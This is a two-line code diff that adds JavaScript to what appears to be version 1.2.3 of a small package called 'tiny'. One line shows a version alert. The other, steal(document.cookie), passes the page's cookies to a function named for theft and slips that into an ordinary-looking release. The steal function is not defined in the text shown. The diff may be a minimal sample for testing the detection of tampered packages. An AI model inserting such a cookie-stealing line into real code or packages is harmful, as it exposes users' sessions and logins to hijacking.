@@ -1,0 +1,2 @@
+alert('tiny 1.2.3');
+steal(document.cookie);
